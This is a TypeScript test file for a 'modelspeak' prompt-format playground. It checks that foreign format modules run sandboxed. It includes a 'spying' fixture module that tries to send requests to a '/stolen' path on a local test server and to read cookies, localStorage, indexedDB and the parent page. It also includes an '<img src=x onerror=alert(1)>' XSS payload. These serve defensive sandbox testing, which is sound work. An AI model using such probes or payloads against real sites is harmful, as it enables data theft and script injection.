import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { breachesOf } from './accessibility.js';
import { Site, type Visit } from './site.js';

const root = path.join(import.meta.dirname, '../../..');
const folder = mkdtempSync(path.join(tmpdir(), 'modelspeak-foreign-'));

let site: Site;
let visit: Visit;
let page: Page;
let server: Server;
let host: string;
/** What anyone asked of the server. */
const asked: string[] = [];
let template = '';

beforeAll(async () => {
  site = await Site.open();
  // The format that the scaffold makes, built as its own package does.
  const entry = path.join(root, 'packages/create-format/template/src/index.ts');
  const tsup = path.join(root, 'node_modules/.bin/tsup');
  execFileSync(tsup, [
    entry,
    ...['--no-config', '--format', 'esm', '--out-dir', folder],
    ...['--external', '@modelspeak/core', '--external', '@modelspeak/core/authoring'],
  ]);
  template = ['index.mjs', 'index.js'].reduce((found, name) => {
    try {
      return readFileSync(path.join(folder, name), 'utf8');
    } catch {
      return found;
    }
  }, '');
  server = createServer((request, response) => {
    asked.push(request.url ?? '');
    const isThere = request.url !== '/gone.js';
    response.writeHead(isThere ? 200 : 404, {
      'Access-Control-Allow-Origin': '*',
      'Content-Type': 'text/javascript',
    });
    response.end(request.url === '/page' ? '<!doctype html>' : template);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}, 120_000);
afterAll(async () => {
  await site?.close();
  server?.close().closeAllConnections();
  rmSync(folder, { recursive: true, force: true });
});
beforeEach(async () => {
  asked.length = 0;
  visit = await site.visit('playground');
  page = visit.page;
});
afterEach(() => visit.close());

const prompt = () => page.getByLabel('Prompt of the loaded format');
const problem = () => page.locator('.foreign [role=alert]');

async function choose(code: string): Promise<void> {
  await page.locator('.foreign input[type=file]').setInputFiles({
    name: 'format.js',
    mimeType: 'text/javascript',
    buffer: Buffer.from(code),
  });
}

test('a format built from the template shows its prompt and reads a reply', async () => {
  expect(template).toContain('@modelspeak/core/authoring');
  expect(asked).toEqual([]);
  await page.getByLabel('Address of the module').fill(`${host}/format.js`);
  await page.getByRole('button', { name: 'Load', exact: true }).click();
  await prompt().waitFor();
  expect(asked).toEqual(['/format.js']);
  expect(await prompt().textContent()).toContain(
    '<|im_start|>user\nIs it warmer in Paris or in Rome?<|im_end|>',
  );
  expect(await prompt().locator('.piece.control').count()).toBeGreaterThan(5);
  await page
    .getByLabel('A raw reply')
    .fill(
      'Hm.<tool_call>{"name": "get_weather", "arguments": {"city": "Rome"}}</tool_call><|im_end|>',
    );
  const message = page.getByLabel('Message of the loaded format');
  await expect.poll(() => message.textContent()).toContain('get_weather');
  expect(JSON.parse((await message.textContent()) ?? '')).toMatchObject({
    content: 'Hm.',
    tool_calls: [{ function: { name: 'get_weather', arguments: '{"city": "Rome"}' } }],
  });
  expect(await breachesOf(page)).toEqual([]);
  await page.getByLabel('Its options, as JSON').fill('{"no": 1}');
  await expect.poll(() => problem().textContent()).toContain('no');
});

/** A format whose prompt says what the code of its module could do. */
const spying = (): string => `
import { defineFormat, defineOptions } from '@modelspeak/core/authoring';
const tries = {
  nothing: () => true,
  fetch: () => fetch('${host}/stolen'),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${host.replace('http', 'ws')}/stolen');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  script: () => import('${host}/stolen.js'),
  request: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = reject;
    request.open('GET', '${host}/stolen');
    request.send();
  }),
  storage: () => localStorage.length,
  cookies: () => document.cookie.length,
  database: () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('a');
    opening.onsuccess = resolve;
    opening.onerror = reject;
  }),
  caches: () => caches.open('a'),
  parent: () => parent.document.title,
  top: () => { top.location = '${host}/stolen'; },
  self: () => { location.href = '${host}/stolen'; if (!location.href.startsWith('blob:')) return; throw 0; },
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker('${host}/stolen.js');
    worker.onmessage = resolve;
    worker.onerror = reject;
  }),
};
const got = [];
await Promise.all(Object.entries(tries).map(async ([name, run]) => {
  try {
    await Promise.race([run(), new Promise((_, reject) => setTimeout(reject, 500))]);
    got.push(name);
  } catch {}
}));
export default defineFormat({
  name: 'spy', models: [], control: ['<a>'], stop: ['<a>'], options: defineOptions({}), supports: { system: true, history: true, tools: true, toolCalls: true },
  write(_conversation, out) { out.content('got: ' + got.join(' ') + '.'); },
  reader: () => { throw new Error('no'); },
});`;

test('a module gets no network, no storage, no page and nowhere to go', async () => {
  const address = page.url();
  await choose(spying());
  await prompt().or(problem()).waitFor();
  expect(await problem().count()).toBe(0);
  expect(await prompt().textContent()).toBe('got: nothing.');
  expect(asked).toEqual([]);
  expect(page.url()).toBe(address);
});

test('markup in a prompt is text', async () => {
  await choose(`
import { defineFormat, defineOptions } from '@modelspeak/core/authoring';
export default defineFormat({
  name: 'markup', models: [], control: ['<a>'], stop: ['<a>'], options: defineOptions({}), supports: { system: true, history: true, tools: true, toolCalls: true },
  write(_conversation, out) { out.content('<img src=x onerror=alert(1)>'); },
  reader: () => { throw new Error('no'); },
});`);
  await prompt().waitFor();
  expect(await prompt().textContent()).toBe('<img src=x onerror=alert(1)>');
  expect(await page.locator('.foreign img').count()).toBe(0);
});

test.each([
  ['while it loads', 'for (;;) {}'],
  [
    'while it writes',
    'export default Object.assign(() => ({ kind: "prompt", name: "x", segments() { for (;;) {} } }))',
  ],
])('an endless loop %s ends, and the page stays usable', async (_when, code) => {
  await choose(code);
  await expect.poll(() => problem().textContent()).toContain('within 3 seconds, and was ended');
  expect(await page.locator('iframe').count()).toBe(0);
  await choose(template);
  await prompt().waitFor();
});

test.each([
  ['import "lodash"', 'imports "lodash"'],
  ['export const x = 1', 'exports no format'],
  ['import {', 'no ES module'],
  ['const a = 1;\n}', 'at line'],
  ['throw new Error("my own words")', 'my own words'],
  [
    'postMessage({ id: 0, answer: { name: 5 } }); export default 5',
    'something else than it was asked',
  ],
])('says what is wrong with %s', async (code, words) => {
  await choose(code);
  await expect.poll(() => problem().textContent()).toContain(words);
});

test('an address that is none, and one that cannot be read', async () => {
  await page.getByLabel('Address of the module').fill('my-format');
  await page.getByRole('button', { name: 'Load', exact: true }).click();
  await expect.poll(() => problem().textContent()).toContain('begins with https://');
  await page.getByLabel('Address of the module').fill('http://127.0.0.1:9/x.js');
  await page.getByRole('button', { name: 'Load', exact: true }).click();
  await expect.poll(() => problem().textContent()).toContain('cannot be reached');
});

test.each([
  ['/page', 'a web page, not JavaScript'],
  ['/gone.js', 'answered with 404. Check the address'],
])('says what is wrong with the answer at %s', async (place, words) => {
  await page.getByLabel('Address of the module').fill(`${host}${place}`);
  await page.getByRole('button', { name: 'Load', exact: true }).click();
  await expect.poll(() => problem().textContent()).toContain(words);
});
